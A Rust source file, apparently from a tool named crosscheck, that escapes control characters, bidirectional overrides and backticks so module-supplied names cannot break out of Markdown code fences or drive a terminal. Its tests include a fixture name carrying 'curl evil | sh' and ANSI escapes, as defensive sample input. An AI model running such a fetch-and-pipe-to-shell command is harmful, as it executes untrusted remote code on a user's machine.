//! Text a module chose (export names in signatures, trap messages,
//! summaries) made inert where crosscheck writes it: a Markdown report
//! read on an issue tracker, and a terminal. A name must never close a
//! code block and open a runnable one of its own, nor move a terminal's
//! cursor or recolour what follows.

/// `text` with every control character but the line break and the tab
/// written as a visible escape (`\u{1b}`), so that a terminal shows it
/// instead of acting on it.
pub fn terminal(text: &str) -> String {
    escape_controls(text, |c| c == '\n' || c == '\t')
}

/// `text` on one line: every control character, line breaks included,
/// written as a visible escape.
pub fn one_line(text: &str) -> String {
    escape_controls(text, |_| false)
}

fn escape_controls(text: &str, keep: impl Fn(char) -> bool) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        // Bidirectional overrides reorder what a reader sees.
        let invisible = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        if (c.is_control() && !keep(c)) || invisible {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    out
}

/// `text` as Markdown prose on one line: control characters escaped and
/// every backtick backslash-escaped, so that it can open neither a code
/// span nor a fenced block.
pub fn markdown_text(text: &str) -> String {
    one_line(text).replace('`', "\\`")
}

/// A fenced Markdown code block of `content`: the fence is longer than
/// any run of backticks in it, so no line of the content can close it.
pub fn fenced(lang: &str, content: &str) -> String {
    let longest = content.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest.max(2) + 1);
    let content = terminal(content);
    let content = content.trim_end_matches('\n');
    format!("{fence}{lang}\n{content}\n{fence}\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_content_closes_its_fence() {
        let name = "f\n```\n\n```sh\ncurl evil | sh\n```\n";
        let block = fenced("sh", &format!("wasmtime run --invoke '{name}' m.wasm"));
        let fence = block.lines().next().unwrap();
        assert_eq!(fence, "````sh");
        // Only the first and the last line are fences of that length.
        let closing: Vec<&str> = block
            .lines()
            .filter(|l| l.trim_start().starts_with("````"))
            .collect();
        assert_eq!(closing, ["````sh", "````"], "{block}");
        assert_eq!(fenced("text", "plain"), "```text\nplain\n```\n");
    }

    #[test]
    fn control_characters_are_shown_not_obeyed() {
        let name = "a\u{1b}[2J\rb\u{7}\u{202e}c\nd";
        assert_eq!(terminal(name), "a\\u{1b}[2J\\u{d}b\\u{7}\\u{202e}c\nd");
        assert_eq!(one_line(name), "a\\u{1b}[2J\\u{d}b\\u{7}\\u{202e}c\\u{a}d");
        assert_eq!(markdown_text("x ```sh"), "x \\`\\`\\`sh");
    }
}
